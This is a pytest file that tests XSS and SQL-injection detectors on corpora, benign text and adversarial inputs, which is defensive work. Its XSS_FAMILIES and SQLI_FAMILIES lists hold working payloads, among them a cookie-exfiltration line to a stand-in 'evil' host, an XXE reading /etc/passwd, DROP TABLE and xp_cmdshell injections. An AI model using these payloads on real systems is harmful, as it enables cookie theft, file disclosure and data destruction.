"""XSS and SQL-injection detectors: corpus rates, decoding, families beyond the corpus, safety.

The corpora live in ``tests/data/corpora`` (origins and licences in its SOURCES.md); every
file is split into a development part and a held-out part (``tests/corpora.py``), and both
parts are held to the same targets. A missing folder fails loudly: the targets can't be
checked without it.
"""

from __future__ import annotations

import time
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from otelprod.validation import Finding, detect_sqli, detect_threats, detect_xss, is_attack
from tests.corpora import (
    CORPORA,
    LIBINJECTION_AMBIGUOUS,
    SEARCH_QUERIES,
    attack_files,
    attack_lines,
    corpus_lines,
    is_xss_file,
    libinjection_verdict,
    prose_files,
    scored,
    split,
)

#: detection targets per file (both parts); libinjection's own data is its training set, where
#: it scores 99.5-100 %. rsnake's held-out part is 14 lines, one of them the first line of a
#: multi-line Flash vector (``a="get";``) that is no attack on its own. The probe lists hold
#: lines that are no attack alone: bare words (``delete``, ``having``), LDAP filters, a lone
#: ``' --`` (prose has that shape), Flash parameters, lines split off multi-line vectors.
DETECTION_TARGETS = {
    "sqli-libinjection-data.txt": 0.99,
    "sqli-libinjection-forums.txt": 0.998,
    "sqli-libinjection-unittests.txt": 0.95,
    "xss-libinjection-data.txt": 0.99,
    "xss-rsnake.txt": 0.92,
    "sqli-auth-bypass2.txt": 0.85,
    "sqli-fuzzdb-xplatform.txt": 0.68,
    "sqli-seclists-generic.txt": 0.72,
    "xss-brutelogic-js.txt": 0.9,
    "xss-fuzzdb-other.txt": 0.93,
}
DEFAULT_TARGET = 0.95
PROSE_FP_TARGET = 0.002
SEARCH_QUERIES_FP_TARGET = 0.01


def _detect(path: Path):
    return detect_xss if is_xss_file(path) else detect_sqli


@pytest.mark.parametrize("part", ["development", "held-out"])
@pytest.mark.parametrize("path", attack_files() if CORPORA.is_dir() else [None],
                         ids=lambda p: p.name if p else "missing")
def test_detection_rate_per_corpus_file(path: Path | None, part: str) -> None:
    assert path is not None, f"corpus folder {CORPORA} is missing"
    dev, held = split(attack_lines(path))
    lines, ambiguous = scored(dev if part == "development" else held)
    assert lines, f"{path.name}: no {part} lines"
    detect = _detect(path)
    misses = [line for line in lines if not detect(line)]
    rate = 1 - len(misses) / len(lines)
    target = DETECTION_TARGETS.get(path.name, DEFAULT_TARGET)
    assert rate >= target, (
        f"{path.name} ({part}): {rate:.1%} detected (target {target:.0%}); "
        f"{len(ambiguous)} ambiguous lines reported apart; misses:\n" + "\n".join(misses)
    )


@pytest.mark.parametrize("part", ["development", "held-out"])
@pytest.mark.parametrize("path", [p for p in attack_files() if p.parent.name != "libinjection"]
                         if CORPORA.is_dir() else [None], ids=lambda p: p.name if p else "missing")
def test_detects_at_least_what_libinjection_detects(path: Path | None, part: str) -> None:
    """The issue's bar, file by file: at least libinjection's rate on the same lines.

    (On libinjection's own development data it scores 99.5-100 % by construction; those files
    have the absolute targets above.)
    """
    assert path is not None, f"corpus folder {CORPORA} is missing"
    lines, _ = scored(split(attack_lines(path))[part == "held-out"])
    detect, anchor = _detect(path), libinjection_verdict(path)
    ours = sum(bool(detect(line)) for line in lines)
    theirs = sum(anchor(line) for line in lines)
    missed = [line for line in lines if anchor(line) and not detect(line)]
    assert ours >= theirs, (f"{path.name} ({part}): {ours} detected, libinjection {theirs} "
                            f"of {len(lines)}; it caught these, we did not:\n" + "\n".join(missed))


def test_ambiguous_lines_exist_and_are_kept_apart() -> None:
    lines = corpus_lines(CORPORA / "attacks" / "sqli-auth-bypass.txt", skip_comments=False)
    _, ambiguous = scored(lines)
    assert "'-'" in ambiguous and len(ambiguous) >= 5


def test_libinjection_not_sqli_fragments_are_mostly_left_alone() -> None:
    """``1 UNION``, ``foo'--'bar'``: libinjection calls them harmless; they are reported apart."""
    lines = corpus_lines(CORPORA / "libinjection" / LIBINJECTION_AMBIGUOUS)
    flagged = [line for line in lines if detect_sqli(line)]
    assert len(lines) >= 15 and len(flagged) <= len(lines) // 4, flagged


def test_libinjection_files_write_newlines_as_percent_0a() -> None:
    """The files keep one input per line; decoding turns ``%0A`` back into a newline."""
    text = (CORPORA / "libinjection" / "sqli-libinjection-data.txt").read_text(encoding="utf-8")
    assert "%0A" in text
    assert detect_sqli("-1%0Aunion%0Aselect%0A1,2")


@pytest.mark.parametrize("part", ["development", "held-out"])
def test_false_positive_rate_on_benign_prose(part: str) -> None:
    lines = [line for path in prose_files()
             for line in split(corpus_lines(path))[part == "held-out"]]
    assert len(lines) > (3000 if part == "development" else 800)
    flagged = {line: [f.rule for f in detect_threats(line)] for line in lines}
    flagged = {line: rules for line, rules in flagged.items() if rules}
    rate = len(flagged) / len(lines)
    assert rate <= PROSE_FP_TARGET, (
        f"{part}: {rate:.2%} of {len(lines)} benign lines flagged "
        f"(target <= {PROSE_FP_TARGET:.1%}): {flagged}"
    )


def test_false_positive_rate_on_benign_queries() -> None:
    lines = corpus_lines(CORPORA / "benign" / SEARCH_QUERIES)
    assert len(lines) > 400
    flagged = {line: [f.rule for f in detect_threats(line)] for line in lines}
    flagged = {line: rules for line, rules in flagged.items() if rules}
    rate = len(flagged) / len(lines)
    assert rate <= SEARCH_QUERIES_FP_TARGET, (
        f"{rate:.2%} of benign lines flagged (target <= 1%): {flagged}"
    )


# --- attack families that are not in the corpora ----------------------------------------

XSS_FAMILIES = [
    "<img src=x onerror=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<xss onanimationstart=alert(1) style=animation-name:x>",
    "<details open ontoggle=confirm(document.domain)>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
    "<form><button formaction=javascript:alert(1)>x",
    "<svg><set attributeName=href to=javascript:alert(1)>",
    "%253Cscript%253Ealert(1)%253C%252Fscript%253E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%u003Cimg src=x onerror=alert(1)%u003E",
    "\\x3cimg src=x onerror=alert(1)\\x3e",
    "＜script＞alert(1)＜/script＞",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<scr\x00ipt>alert(1)</script>",
    "\"><img src=x onerror=prompt(1)>",
    "';alert(document.cookie);//",
    "\";document.location='http://evil/?c='+document.cookie;//",
    "{{constructor.constructor('alert(1)')()}}",
    "<div style=\"background:url(javascript:alert(1))\">",
    "<div style=\"width:expr/**/ession(alert(1))\">",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x",
    "<body onpageshow=alert(1)>",
    "<input onfocus=alert(1) autofocus>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<base href=//evil.example/>",
    # computed property calls, comments inside the brackets
    "window[/al/.source+/ert/.source](1)",
    "top[\"al\"+\"ert\"](1)",
    "self[/*x*/'al'+'ert'/*y*/](document.domain)",
    # client-side templates (Angular, Vue)
    "{{constructor.constructor('alert(1)')()}}",
    "<img src=x @error=alert(1)>",
    "<div v-on:click=\"alert(1)\">x</div>",
    # XML external entities, CSS that loads or runs
    "<!DOCTYPE x [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><x>&xxe;</x>",
    "<div style=\"background-image:url(//evil.example/x.png)\">",
    "<p style=\"@import 'http://evil.example/x.css';\">",
    # DTD declarations, XML processing instructions and namespaces that run or load code
    "<!DOCTYPE d [<!ATTLIST a onclick CDATA \"alert(1)\">]><a/>",
    "<!DOCTYPE note SYSTEM \"http://evil.example/x.dtd\"><note>&e;</note>",
    "<?xml-stylesheet href=\"//evil.example/x.xsl\" type=\"text/xsl\"?><doc/>",
    "<xsl:transform version=\"1.0\"></xsl:transform>",
    "<ev:listener event=\"click\" handler=\"#h\"/>",
    "<doc xmlns:e=\"http://www.w3.org/2001/xml-events\" e:event=\"load\"/>",
    "<svg:script>alert(1)</svg:script>",
    # data binding, an animation that rewrites a link, CSS that breaks out of its block
    "<span datasrc=\"#d\" datafld=\"f\" dataformatas=\"html\"></span>",
    "<animate attributeName=\"xlink:href\" values=\"//evil.example\"/>",
    "<p style=\"color:red}body{background:url(x)\">x</p>",
    # a scheme spread out by spaces, handlers that name a sink or run anything
    "<img src=vb script:msgbox(1)>",
    "<img src=x onerror=prompt>",
    "\"+onfocus=alert(1)+autofocus+\"",
    "' autofocus onfocus=KCF '",
    # the input is script itself (a JavaScript context): a dialog called at the start, after
    # a closed block or a semicolon, as a query parameter's value
    "alert(1)", "}confirm(2);{//", "93e2;prompt(3)//7c1a", "?cb=alert(document.domain)",
    # a sink handed on as a value, to be called under another name
    "x=eval;y=alert;x(y(4))", "(confirm)(5)", "[6].map(prompt)",
    "eval.apply(this,[unescape(location.hash)])",
    # US-ASCII with the high bit cleared; "%" in the tag name (old IE)
    "¼script¾prompt(¢x¢)¼/script¾", "<%script>confirm(7)<%/script>",
    # a script URL after two or more blanks, then a blank after the colon
    "href=  javascript: alert(1)", "x=  vbscript: msgbox",
]

SQLI_FAMILIES = [
    "' OR '1'='1",
    "' or 1=1 limit 1 -- -+",
    "1' ORDER BY 3--+",
    "' UNION SELECT username, password FROM users--",
    "1 UN/**/ION SEL/**/ECT 1,2,3",
    "1 /*!50000UNION*/ /*!50000SELECT*/ 1,2",
    "-1 union%0aselect 1,2,3",
    "%2527%2520or%25201%253D1--",
    "1 AND (SELECT 1 FROM (SELECT(SLEEP(5)))a)",
    "1; WAITFOR DELAY '0:0:5'--",
    "1' AND pg_sleep(5)--",
    "1' and extractvalue(1,concat(0x7e,version()))--",
    "1 and updatexml(1,concat(0x7e,(select user())),1)",
    "' AND 1=CONVERT(int,(SELECT @@version))--",
    "'; DROP TABLE users; --",
    "1; EXEC xp_cmdshell('dir')--",
    "admin'--",
    "admin')#",
    "' or 'a'='a",
    "\" or \"\"=\"",
    "' || '1'='1",
    "1 or 1 like 1",
    "1' and ascii(substring((select database()),1,1))>64--",
    "1 AND 1=2 UNION ALL SELECT table_name FROM information_schema.tables",
    "1+or+1%3D1",
    "' GROUP BY columnnames HAVING 1=1 --",
    "1' AND (SELECT COUNT(*) FROM users) > 0 --",
    "1) or benchmark(1000000,md5(1))#",
    # arithmetic or a function call before a comparison
    "foo' and 1+2+3+4+5+6=21--",
    "HOPE AND COS(3)=SIN(4)",
    "1 and user_name() = 'dbo'",
    "2 or 7*3 >= 20",
    # || before a column, Oracle concatenation
    "1 || user_id is not null",
    "' || pkg.fn('a','b') || '",
    # whole statements on any catalogue
    "select * from sysusers",
    "select name, password from sys.sql_logins",
    # odd argument shapes
    "sELecT slEep (20 dIv 3)",
    "1 and sleep(2*3)",
    # written the way libinjection's data writes it: URL-encoded, + for space
    "foo%27+and+1%2B2%2B3%3D6--",
    "1%29+or+%281%3D1",
    # an operator in SQL's quotes between single values, or after a blank
    "x 'OR' y", "'XOR'", "7 '>=' 3", "name 'NOT REGEXP' pattern", "  ' / 2 / 2 ='",
    # a comparison of literals cut off by a short comment
    "2 <> 3 --", "(2) in (char(65)) #",
    # statements other than SELECT stacked after a value or a quote
    "5; CALL proc(@x)", "1; LOAD XML INFILE 'f'", "9; DO (2=2)",
    "x'; IF 2=2 DROP TABLE t--", "'; WHILE 1=1 SHUTDOWN--", "1; IF EXISTS (SELECT 1)",
    "EXEC sp_who @loginame = 'sa'",
    # conditions on two literals: IF/IIF, CASE WHEN; SELECT with no table
    "x, IIF(3=4,x,1/0)", "(CASE WHEN (5=6) THEN 1 ELSE 0 END)", "a + (SELECT 7 WHERE 3=3 AND 2=1)",
    "1 + ALL(SELECT 1,2)",
    # information functions, character-at-a-time extraction, executable comments
    "VERSION() LIKE 'x%'", "CHARSET(USER())", "5 + ORD(MID(password,1,1))",
    "7 /*!50000 OR 1=1 */", "abc/* anything at all */",
    # null bytes and bytes that are no UTF-8 as separators, a list after UNION
    "1%00UNION%00SELECT%002", "1%A0UNION%A0SELECT%A02", "5 union 1,2,3--",
    # PostgreSQL's :: cast in an expression; a comment opened inside a comment (PostgreSQL
    # nests them, MySQL does not); statement keywords typed out of order, then a comment
    "3 or 2=version()::int", "5 /* a /* b */ */ 6", "-5 select union 7,8--", "3 group union 1,2 #",
    # a value, AND/OR, then a call whose arguments are not well formed
    "5 AND MID((z())1,1)=q", "-8 or ascii(left((a=2..4()),1))>64",
    # MySQL's backslashes outside a literal (no CSS escapes): \N is NULL, others no token
    "\\2=\\2OR\\3=\\3;", "SELECT 2FROM[t]WHERE\\4=\\4", "*2=/2AND%3=-3",
    # a number computed with a call of literals
    "7 - ASCII('b')",
    # an operand compared with itself, whatever it is (names, a tool's [PLACEHOLDERS])
    " or k=k--", "hi or b = b", "([NUM]=[NUM] AND SLEEP([SECS]))", "ELT([N]=[N],7)",
    "MAKE_SET([R]=[R],4)", "(SELECT [C] FROM PG_SLEEP([S]))", "sleep(__SECONDS__)#",
    # HAVING with nothing before it; the parenthesis that closes the application's;
    # a literal reopened around a comparison
    " HAVING 3=2--", ") or ('b'='b", "'or'2=2",
    # literals reopened between letters (no apostrophe of a word); curled quotes and primes
    "x'or'x", "a'and'b", "'XOR'y", "\u2018 or 3=4 --", "x\u2033 or \u20331\u2033=\u20331",
    # numbers compared with themselves, then the condition ends or goes on as SQL
    " or 5=5\u2013", " AS T WHERE 2=2 AND 2=0#", '"a"" or 3=3--"',
]


@pytest.mark.parametrize("payload", XSS_FAMILIES)
def test_xss_families_beyond_the_corpus(payload: str) -> None:
    findings = detect_xss(payload)
    assert findings, f"missed: {payload!r}"
    assert all(isinstance(f, Finding) and f.rule.startswith("xss.") for f in findings)


@pytest.mark.parametrize("payload", SQLI_FAMILIES)
def test_sqli_families_beyond_the_corpus(payload: str) -> None:
    findings = detect_sqli(payload)
    assert findings, f"missed: {payload!r}"
    assert all(f.threat == "sqli" and f.rule.startswith("sqli.") for f in findings)


BENIGN = [
    "O'Brien", "D'Angelo-Smith", "Rock 'n' roll", "It's 5 o'clock; let's go",
    "10\" or 12\" pizza", "Tom & Jerry", "cats or dogs", "salt and pepper",
    "1 AND 1/2\" BUTTON", "Select the best option from the list below",
    "Please update your profile and delete old photos",
    "Drop table lamps are 20% off", "Union Station to Times Square",
    "std::vector and std::map::find", "a /* comment */ and /* another */",
    "SELECT * is a common SQL idiom (discussed in the docs)",
    "email me at jane.o'neil@example.com", "https://example.com/search?q=a+b&page=2",
    "<b>bold</b> and <i>italic</i>", "<a href=\"https://example.com\">link</a>",
    "<img src=\"photo.jpg\" alt=\"me\">", "x < y and y > z",
    "JavaScript: The Good Parts", "regular expression (regex) tutorial",
    "price: $5 -- limited offer", "C:\\Users\\jane\\Documents", "a = b + c; // comment",
    "I <3 Python", "He said \"hello\" and left", "1,000,000", "#hashtag #2024",
    "online=true&mode=dark", "The 'sleep' command pauses", "onion rings", "Sleep (8 hours)",
    "-- signature --", "Dear Sir/Madam, I'm writing regarding order #1234.",
    # a quote, then a spaced dash
    "The students' -- and the teachers' -- rooms", "He said 'no' -- and left",
    # SQL words inside a sentence
    "You can group, order or select from the list below",
    "Click select, then choose one or more from the menu",
    "the between's syntax is odd", "It's 'like' the LIKE operator, but case-blind",
    # script variables named on…
    "var onload = init();", "const onClick = handler(event);",
    # a quoted symbol in documentation
    'Formerly, "^" characters in the search string were ignored.',
    "Sleep (8 hours) and drink water",
    # a quoted word in a sentence, a double-quoted search word, a keyword argument
    "the 'like' keyword matches case-blind", '"LIKE" STAMP', "select 'and'",
    "shutil.rmtree(path, onerror=remove_readonly)", "os.walk(top, onerror=log)",
    # arithmetic and a comment in prose, SQL in documentation, JSX, doctypes
    "2 + 2 = 4 -- as everyone knows", "version () → text",
    "write every test as EXISTS (SELECT 1 WHERE ...) in the docs",
    "<div style={{color: 'red'}}>x</div>", "<!DOCTYPE html>",
    "The onload event fires when the page has loaded", "the onerror= attribute",
    # markdown: a link after "this", a badge URL's style parameter; a regex symbol in quotes
    "Check out this [video tutorial](https://example.com/intro.html)!",
    "[![docs](https://img.example/badge/?version=stable&style=flat)](https://docs.example/)",
    '"^"      Matches the start of the string.',
    # documentation placeholders, a glob in JSON, a quote in a sentence then "in ... and"
    "Only list branches of _<object>_.", "Equivalent to passing `<base>..<rev1>`",
    "fix to select_by(<propname>=<object instance>) -style joins in",
    'curl --data "<xml>" --header "Content-Type: text/xml"',
    '"outFiles":["${workspaceFolder}/out/**/*.js","${workspaceFolder}/dist/**/*.js"]',
    'value and store it in dstref" in fetch and push operations.',
    'break into "transactional" and "read-only" operations',
    "We walked between's hedges, and found thee there;",
    # pasted code: SQLAlchemy, a function expression, keyword arguments, assignments
    "result = session.execute(select(User))",
    "use element.addEventListener('focusin', function() {});",
    "setTimeout(() => { done() }, 100)", "Tests no longer call eval() on content",
    "app = Starlette(debug=True, routes=routes)", "bar = Bar()",
    "out = out + comp.compress(chunk)", "Cook for 1¼ hours at 180°",
    # syslog levels, words that are also sinks, a recipe in fractions, arithmetic on calls
    "levels=alert,warning,error", "status=confirm;next=pay", "mode=eval, debug=1",
    "Alert(s): disk full", "Prompt(GPT-4): You are a helpful assistant",
    "Confirm(your email) to continue", "Press OK (confirm)(or Cancel)",
    "Spread a ¼ layer of cream and add ¾ cup sugar.", "10 + round(2.5)", "100 * sqrt(2)",
    # the WHERE 1=1 idiom in prose, shell commands, a keyword argument
    "Many query builders start with WHERE 1=1 so that every condition can begin with AND.",
    "Trivially, 0=0 and 1=1.", "cd build && make && VERSION=VERSION make install",
    "[ -z \"$X\" ] && X=X", "f(name=name, size=size)",
]


@pytest.mark.parametrize("text", BENIGN)
def test_ordinary_text_is_not_flagged(text: str) -> None:
    assert not detect_xss(text), detect_xss(text)
    assert not detect_sqli(text), detect_sqli(text)
    assert not is_attack(text)


def test_findings_carry_rule_ids_and_a_decoded_excerpt() -> None:
    [finding, *_] = detect_xss("%3Cscript%3Ealert(1)%3C/script%3E")
    assert finding.rule == "xss.script_tag" and finding.threat == "xss"
    assert "<script" in finding.excerpt
    rules = {f.rule for f in detect_sqli("' UNION SELECT 1 -- ")}
    assert "sqli.union_select" in rules
    assert str(finding).endswith("[xss.script_tag]")


@pytest.mark.parametrize("odd", [
    None, b"<script>alert(1)</script>", b"\xff\xfe<svg onload=alert(1)>", "a\ud800b",
    12345, 3.5, object(), ["<script>"], "", "\x00" * 100, "%" * 1000, "&#" * 1000,
    "\\u" * 1000, "%u" * 1000, "+ADw-" * 500,
])
def test_detectors_never_raise(odd: object) -> None:
    assert isinstance(detect_xss(odd), list)
    assert isinstance(detect_sqli(odd), list)


def test_bytes_are_decoded_before_detection() -> None:
    assert detect_xss(b"<script>alert(1)</script>")
    assert detect_sqli(b"' or 1=1--")


ADVERSARIAL = {
    "lt": "<" * 65536,
    "quote": "'" * 65536,
    "dquote": '"' * 65536,
    "backslashes": "\\" * 65536,
    "escaped quotes": "\\'" * 32768,
    "brackets": "<" + "[(" * 32768,
    "parens": "(" * 65536,
    "tags": "<a " * 21845,
    "handlers": " onx=" * 13107,
    "comments": "/*" * 32768,
    "comment ends": "*/" * 32768,
    "line comments": "--" * 32768,
    "hashes": "#" * 65536,
    "entities": "&#" * 32768,
    "percent": "%" * 65536,
    "percent 25": "%25" * 21845,
    "nested encodings": "%2525" * 13107,
    "unicode escapes": "\\u" * 32768,
    "utf-7": "+ADw-" * 13107,
    "or": " or '" * 13107,
    "or numbers": "1 or " * 13107,
    "select": "select " * 9362,
    "union select": "union select " * 5041,
    "calls": "f(" * 32768,
    "styles": " style=" * 9362,
    "templates": "{{" * 32768,
    # the readings added for the second round of #19: comparisons, sinks as values, MySQL
    # backslashes, curled quotes, US-ASCII fractions
    "equals": "=" * 65536,
    "self comparisons": "or x = x " * 7282,
    "sinks as values": "=alert;" * 9363,
    "dialog calls": ";alert(" * 9363,
    "css escapes": "\\1A" * 21846,
    "escaped backslashes": "%5c1" * 16384,
    "curled quotes": "\u2018 or \u2019" * 10923,
    "fractions": "\xbc" * 65536,
    "subqueries": "(select[" * 8192,
    "fractions and tags": "\xbc\xbe<" * 21846,
}
#: generous: the benchmark reports the worst case against its 50 ms target; this only
#: catches a blow-up (quadratic or exponential time), measured as this process's CPU time
CPU_SECONDS_BOUND = 0.5


@pytest.mark.parametrize("name", ADVERSARIAL)
def test_no_catastrophic_backtracking(name: str) -> None:
    text = ADVERSARIAL[name]
    assert len(text) >= 65000
    start = time.process_time()
    detect_xss(text)
    detect_sqli(text)
    assert time.process_time() - start < CPU_SECONDS_BOUND


def test_the_sql_reading_is_bounded_whatever_the_length() -> None:
    """Structure, not time: the tokenizer reads at most MAX_TOKENS tokens per reading."""
    from otelprod.validation._sqltokens import MAX_TOKENS, tokens

    # X marks a reading cut short, so that no shape takes the cut for the end of the input
    assert tokens("1 or " * 13107) == "1&" * (MAX_TOKENS // 2) + "X"
    assert tokens("the quick brown fox " * 4000) == "nX"  # prose: stops at two words
    assert tokens("it's " * 10000, 3, after_quote=True) == "X"  # an apostrophe, not a quote


def test_detect_threats_is_both_detectors_on_one_decoding() -> None:
    value = "%27%20or%201%3D1--"
    assert [f.rule for f in detect_threats(value)] == [f.rule for f in detect_sqli(value)]
    both = "<script>alert(1)</script>' union select 1--"
    assert {f.threat for f in detect_threats(both)} == {"xss", "sqli"}
    assert detect_threats("plain words") == []


def test_the_detectors_fast_findings_are_ordinary_frozen_findings() -> None:
    """``make_finding`` fills ``__dict__`` directly; what it makes must be a ``Finding`` like any
    other: equal, hashed alike, printed alike, and still frozen."""
    import dataclasses

    from otelprod.validation._result import make_finding

    fast = make_finding("sqli", "sqli.tautology", "always true", "1=1")
    slow = Finding("sqli", "sqli.tautology", "always true", "1=1")
    assert type(fast) is Finding
    assert fast == slow and hash(fast) == hash(slow)
    assert (repr(fast), str(fast)) == (repr(slow), str(slow))
    assert dataclasses.asdict(fast) == dataclasses.asdict(slow)
    with pytest.raises(dataclasses.FrozenInstanceError):
        fast.rule = "changed"  # type: ignore[misc]
    assert {f.name for f in dataclasses.fields(Finding)} == set(vars(fast))


@settings(max_examples=3000, deadline=None)
@given(st.text(alphabet="%abcdefABCDEF0123456789xyz<>'\" ", max_size=16))
def test_the_ascii_escape_shortcut_reads_percent_escapes_as_unquote_does(text: str) -> None:
    """``_ascii_escapes`` skips ``unquote_to_bytes`` when every escape is ASCII; whenever it
    answers, the answer is ``unquote_to_bytes``'s."""
    from urllib.parse import unquote_to_bytes

    from otelprod.validation._decode import _ascii_escapes

    shortcut = _ascii_escapes(text)
    if shortcut is not None:
        assert shortcut == unquote_to_bytes(text).decode("latin-1")
